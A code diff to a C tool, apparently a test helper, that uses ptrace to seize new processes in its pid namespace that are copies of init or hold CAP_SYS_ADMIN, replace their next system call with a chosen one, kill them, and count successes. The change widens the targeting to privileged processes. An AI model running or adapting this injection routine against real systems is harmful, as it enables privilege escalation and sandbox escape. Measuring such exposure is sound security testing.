@@ -1,7 +1,7 @@
 /*
- * inject NUMBER FIRST SECOND MILLISECONDS: traces each new process of its pid namespace that is still a copy of init, puts
- * a system call of its own in the place of the next one, and kills it. Prints how often it did, and how often the call
- * returned 0 or more.
+ * inject NUMBER FIRST SECOND MILLISECONDS: traces each new process of its pid namespace that is still a copy of init or has
+ * CAP_SYS_ADMIN, puts a system call of its own in the place of the next one, and kills it. Prints how often it did, and how
+ * often the call returned 0 or more. SIGTERM ends it earlier.
  */
 #include <elf.h>
 #include <fcntl.h>
@@ -16,6 +16,10 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+
+static volatile sig_atomic_t stopped;
+
+static void stop(int number) { stopped = number; }
 
 static long now_ms(void) {
   struct timespec t;
@@ -44,6 +48,15 @@ static bool is_copy(int pid) {
   snprintf(path, sizeof path, "/proc/%d/comm", pid);
   return read_text(path, comm, sizeof comm) > 0 && strcmp(comm, "init\n") == 0;
 }
+
+static bool is_privileged(int pid) {
+  char path[64], text[4096];
+  snprintf(path, sizeof path, "/proc/%d/status", pid);
+  const char *permitted = read_text(path, text, sizeof text) > 0 ? strstr(text, "CapPrm:") : NULL;
+  return permitted != NULL && (strtoull(permitted + 7, NULL, 16) >> 21 & 1) != 0;
+}
+
+static bool is_wanted(int pid) { return is_copy(pid) || is_privileged(pid); }
 
 static bool call_instead(int pid, const long call[3]) {
   struct user_regs_struct regs;
@@ -89,12 +102,16 @@ static int attack(int pid, const long call[3]) {
   int status, result = 0;
   if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) return 0;
   if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
-      is_copy(pid) && step(pid) && is_copy(pid) && call_instead(pid, call)) {
+      is_wanted(pid) && step(pid) && is_wanted(pid) && call_instead(pid, call)) {
     result = 1;
     if (step(pid) && result_of(pid) >= 0) result = 2;
   }
-  if (result > 0) kill(pid, SIGKILL);
-  ptrace(PTRACE_DETACH, pid, 0, 0);
+  if (result > 0) {
+    kill(pid, SIGKILL);
+    while (waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status)) continue; /* or it stays */
+  } else {
+    ptrace(PTRACE_DETACH, pid, 0, 0);
+  }
   return result;
 }
 
@@ -103,11 +120,12 @@ int main(int argc, char **argv) {
   const long call[3] = {atol(argv[1]), atol(argv[2]), atol(argv[3])};
   long end = now_ms() + atol(argv[4]);
   unsigned injected = 0, succeeded = 0;
+  signal(SIGTERM, stop);
   puts("lies in wait");
   fflush(stdout);
-  while (now_ms() < end) {
+  while (!stopped && now_ms() < end) {
     int pid = newest();
-    if (!is_copy(pid)) continue;
+    if (!is_wanted(pid)) continue;
     int result = attack(pid, call);
     injected += result > 0;
     succeeded += result > 1;
